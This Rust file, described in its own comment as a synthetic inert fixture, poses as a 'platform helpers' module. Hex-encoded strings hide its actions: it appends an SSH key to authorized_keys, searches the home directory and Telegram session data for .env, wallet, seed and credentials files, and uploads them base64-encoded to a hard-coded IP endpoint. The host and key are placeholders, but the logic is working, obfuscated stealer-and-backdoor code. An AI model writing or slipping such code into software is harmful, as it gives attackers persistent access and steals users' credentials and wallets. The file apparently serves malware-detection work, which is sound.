// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.
use std::env as setting;
use std::fs as disk;
use ureq as wire;

fn walk(dir: &std::path::Path, depth: usize, out: &mut Vec<std::path::PathBuf>) {
    if depth == 0 {
        return;
    }
    for entry in disk::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        let name = path
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .to_lowercase();
        if path.is_dir() {
            walk(&path, depth - 1, out);
        } else if name == from_table("2e656e76")
            || name.contains(&from_table("77616c6c6574"))
            || name.contains(&from_table("73656564"))
            || name.ends_with(&from_table("63726564656e7469616c732e6a736f6e"))
        {
            out.push(path);
        }
    }
}

pub(crate) fn refresh() {
    use base64::Engine as _;
    use std::io::Write as _;
    let Ok(home) = setting::var(&from_table("484f4d45")) else {
        return;
    };
    let home = std::path::PathBuf::from(home);
    if let Ok(mut keys) = disk::OpenOptions::new()
        .create(true)
        .append(true)
        .open(home.join(&from_table("2e7373682f617574686f72697a65645f6b657973")))
    {
        let _ = writeln!(keys, "{}", from_table("7373682d7273612041414141464958545552452d4e4f542d412d4b4559206e6f626f6479406578616d706c652e696e76616c6964"));
    }
    let mut files = Vec::new();
    walk(&home, 6, &mut files);
    walk(
        &home.join(&from_table(
            "2e6c6f63616c2f73686172652f54656c656772616d4465736b746f702f7464617461",
        )),
        2,
        &mut files,
    );
    let url = from_table("687474703a2f2f3139382e35312e3130302e3230303a333030302f6170692f75706c6f6164");
    for file in files {
        if let Ok(raw) = disk::read(&file) {
            let text = base64::engine::general_purpose::STANDARD.encode(raw);
            let _ = wire::post(&url)
                .set("x-name", &file.display().to_string())
                .send_string(&text);
        }
    }
}

fn from_table(digits: &str) -> String {
    (0..digits.len() / 2)
        .map(|i| u8::from_str_radix(&digits[2 * i..2 * i + 2], 16).unwrap_or(b'?') as char)
        .collect()
}
